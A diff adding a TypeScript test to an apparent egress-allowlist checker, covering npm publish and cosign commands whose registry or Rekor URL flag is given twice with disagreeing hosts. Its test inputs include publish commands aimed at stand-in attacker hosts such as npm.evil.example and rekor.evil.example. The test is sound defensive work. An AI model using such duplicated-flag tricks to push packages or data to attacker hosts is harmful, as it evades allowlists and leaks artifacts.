@@ -85,6 +85,29 @@ describe('a push to several destinations, each allowlisted', () => {
   }
 });
 
+describe('a host flag given twice', () => {
+  // The tools' parsers take the last (pflag, nopt, argparse): the first named the destination an entry matched.
+  it('names no host an entry could match when its occurrences disagree, and each remote is judged by its own host', () => {
+    const npm = (registries: readonly string[]) =>
+      push('/usr/bin/npm', `publish ${registries.map((r) => `--registry ${r}`).join(' ')}`, [
+        { namespace: 'ci', destination: 'registry.npmjs.org' },
+      ]);
+    expect(npm(['https://registry.npmjs.org/'])).toEqual([]);
+    expect(npm(['https://registry.npmjs.org/', 'https://registry.npmjs.org/'])).toEqual([]);
+    expect(npm(['https://registry.npmjs.org/', 'https://npm.evil.example/'])).toHaveLength(1);
+    expect(npm(['https://npm.evil.example/', 'https://registry.npmjs.org/'])).toHaveLength(1);
+    // cosign's --rekor-url is both its remote flag and its host flag: the other URL was judged as the first's host.
+    const rekor = (urls: readonly string[]) =>
+      push(
+        '/usr/bin/cosign',
+        `attest-blob --predicate /srv/data/p.json ${urls.map((u) => `--rekor-url ${u}`).join(' ')} --yes blob.tgz`,
+        [{ namespace: 'ci', destination: 'rekor.sigstore.dev' }],
+      );
+    expect(rekor(['https://rekor.sigstore.dev'])).toEqual([]);
+    expect(rekor(['https://rekor.sigstore.dev', 'https://rekor.evil.example'])).toHaveLength(1);
+  });
+});
+
 describe('the summary of a push to many destinations', () => {
   it('names the first three no entry covers and counts the rest: argv may name hundreds', () => {
     const evil = Array.from({ length: 60 }, (_, i) => `quay.io/evil${i}/drop:${i}`);
